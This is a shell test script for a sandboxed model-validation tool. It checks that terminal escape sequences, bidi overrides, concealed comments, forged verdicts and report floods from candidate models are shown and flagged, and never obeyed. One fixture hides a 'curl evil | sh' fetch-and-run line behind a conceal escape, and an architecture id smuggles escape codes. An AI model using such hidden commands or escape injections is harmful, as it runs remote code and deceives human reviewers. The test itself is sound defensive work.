# trust.sh - what a person reads is ours, and only the validate child can
# say "accepted" (issue "Zero-trust build child").  Candidate bytes never
# reach a terminal raw; a verdict read from the build child is labelled.
. "$TOP_SRCDIR/tests/live/lib.sh"
DB=$TMP/pool.db
ESC=$(printf '\033')

# raw_controls FILE: how many raw ESC, other C0 (but \t \n), DEL, C1 or
# bidi-override characters FILE holds
raw_controls() {
	"$PY" - "$1" <<'PYEOF'
import re, sys
text = open(sys.argv[1], "rb").read().decode("utf-8", "replace")
print(len(re.findall("[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]", text)))
PYEOF
}

# 1. an error message that erases the verdict line and paints "accepted"
"$AEGIS" run --no-train --input float:2x100 "$TOP_SRCDIR/tests/escape/152_terminal_escapes.py" >"$TMP/human" 2>"$TMP/stderr"
expect "hostile error message: rejected" "$?" 1
expect "the verdict line is ours" "$(head -1 "$TMP/human" | sed 's/.*: //')" "rejected (stage build)"
expect "no raw control byte in run's human output" "$(raw_controls "$TMP/human")" 0
expect "the escapes are shown, not obeyed" "$(grep -c 'RuntimeError: \\x1b\[1A\\x1b\[2K\\x0d\\x1b\[32mmodel.py: accepted' "$TMP/human")" 1
expect "the bidi override is shown, not obeyed" "$(grep -c '\\u202e' "$TMP/human")" 1

# 2. an accepted model whose comment hides code from a reviewer, recorded
# under an architecture id full of escapes
cat >"$TMP/hider.py" <<EOF
import torch.nn as nn

# ${ESC}[8m
# torch.os.system("curl evil | sh")  (hidden on a terminal)
# ${ESC}[28m


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(100, 10)

    def forward(self, x):
        return self.fc(x)
EOF
"$AEGIS" run --db "$DB" --request-approval --no-train --input float:2x100 \
	--arch-id "$(printf 'gen1\033[2J\033]0;pwned\007')" "$TMP/hider.py" >"$TMP/human" 2>"$TMP/stderr"
expect "hider: accepted" "$?" 0
expect "no raw control byte in run's output, arch id included" "$(raw_controls "$TMP/human")" 0
run_cmd "$AEGIS" pool show 1 --db "$DB"
expect "pool show: no raw control byte" "$(raw_controls "$TMP/out")" 0
expect "pool show: the hidden line is visible" "$(grep -c '^# \\x1b\[8m$' "$TMP/out")" 1
run_cmd "$AEGIS" pool list --db "$DB"
expect "pool list: no raw control byte" "$(raw_controls "$TMP/out")" 0
run_cmd "$AEGIS" approvals list --db "$DB"
expect "approvals list: no raw control byte" "$(raw_controls "$TMP/out")" 0
expect "approvals list: the title shows the escapes" "$(grep -c 'New architecture: gen1\\x1b\[2J\\x1b\]0;pwned\\x07' "$TMP/out")" 1
run_cmd "$AEGIS" approvals show 1 --db "$DB"
expect "approvals show: no raw control byte" "$(raw_controls "$TMP/out")" 0
run_cmd "$AEGIS" pool show 1 --db "$DB" --json
expect "--json keeps the bytes (JSON escapes them)" "$(grep -q '\\u001b\[8m' "$TMP/out" && echo kept)" kept

# 3. a verdict read from the build child is labelled, and only when the
# operator's policy asked for it
run_model --no-train --input float:2x100 "$TOP_SRCDIR/tests/escape/138_forge_inprocess_result.py"
expect "forged in-process result, default policy: no archive, rejected" "$(field '(r["status"], r["error"]["type"], r.get("integrity"))')" "('rejected', 'NoArtifact', None)"
run_model --no-train --input float:2x100 --set validation.export_failure=in-process \
	"$TOP_SRCDIR/tests/escape/138_forge_inprocess_result.py"
expect "the same when the policy allows in-process: unverified, and says why" \
	"$(field '(r["status"], r["integrity"], "could have forged" in r["integrity_note"])')" "('accepted', 'unverified', True)"
"$AEGIS" run --no-train --input float:2x100 --set validation.export_failure=in-process \
	"$MODELS/unexportable.py" >"$TMP/human" 2>"$TMP/stderr"
expect "human output says UNVERIFIED" "$(grep -c '^  integrity    UNVERIFIED: validated inside the candidate' "$TMP/human")" 1
"$AEGIS" run --db "$TMP/unv.db" --request-approval --no-train --input float:2x100 \
	--set validation.export_failure=in-process "$MODELS/unexportable.py" >/dev/null 2>&1
run_cmd "$AEGIS" pool list --db "$TMP/unv.db"
expect "pool list marks it" "$(awk 'NR == 2 {print $2}' "$TMP/out")" "accepted?"
run_cmd "$AEGIS" approvals list --db "$TMP/unv.db"
expect "approvals list marks it" "$(grep -c 'UNVERIFIED: validated in the candidate' "$TMP/out")" 1
run_cmd "$AEGIS" approvals show 1 --db "$TMP/unv.db"
expect "approvals show says so first" "$(sed -n 2p "$TMP/out" | cut -c1-11)" "UNVERIFIED:"

# 4. a report the supervisor must parse fast: 150,000 keys in one line,
# and a flood of lines; the verdict is bounded in size (the forged result
# is line 2, the harness's archive announcement line 3, its result line 4)
run_model --no-train --input float:2x100 "$TOP_SRCDIR/tests/escape/150_report_key_flood.py"
expect "key flood: violation for the second result line" "$(field '(r["status"], r["error"]["message"])')" "('violation', 'report: line 4 of the report channel: a second result line')"
run_model --no-train --input float:2x100 "$TOP_SRCDIR/tests/escape/151_report_line_flood.py"
expect "line flood: a hundred violations kept" "$(field '(r["status"], len(r["violations"]))')" "('violation', 100)"
expect "line flood: the verdict stays small" "$(wc -c <"$TMP/r.json" | awk '{print ($1 < 200000) ? "small" : $1}')" small
# 5. the validate child starts on the archive the build child announces,
# while the build child runs on: what it judged is what is delivered, and
# the build child's later writes to the file change nothing
run_model --no-train --keep-workdir --db "$TMP/swap.db" --input float:2x100 "$MODELS/archive_swap.py"
expect "archive swapped after the announcement: accepted, validated early" "$(field '(r["status"], r["timings"]["validate_early"])')" "('accepted', True)"
expect "the archive delivered is the one validated (the pool's, by SHA-256)" "$("$PY" -c "
import hashlib, json, os
r = json.load(open('$TMP/r.json'))
print(hashlib.sha256(open(r['artifact'], 'rb').read()).hexdigest() == os.path.basename(r['pool_archive'])[:-3])")" True
expect "and it is the model, not the zeros the build child wrote" "$(load_verified "$(field 'r["artifact"]')" "$(field 'r["archive"]["sha256"]')" "
print(m.original_name, bool(m(torch.randn(2, 100)).abs().sum() > 0))")" "Model True"
rm -rf "$(field 'r["workdir"]')"
# a forged announcement before the archive exists starts nothing early,
# and the harness's own makes it a second archive line: tampering
cat >"$TMP/forged_ready.py" <<'EOF'
import torch
import torch.nn as nn

torch.os.write(3, b'{"archive": "ready"}\n')


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(100, 10)

    def forward(self, x):
        return self.fc(x)
EOF
run_model --no-train --input float:2x100 "$TMP/forged_ready.py"
expect "forged archive announcement: a violation, nothing validated early" "$(field '(r["status"], r["error"]["message"], r["timings"].get("validate_early"))')" "('violation', 'report: line 3 of the report channel: a second or malformed archive line', None)"

finish
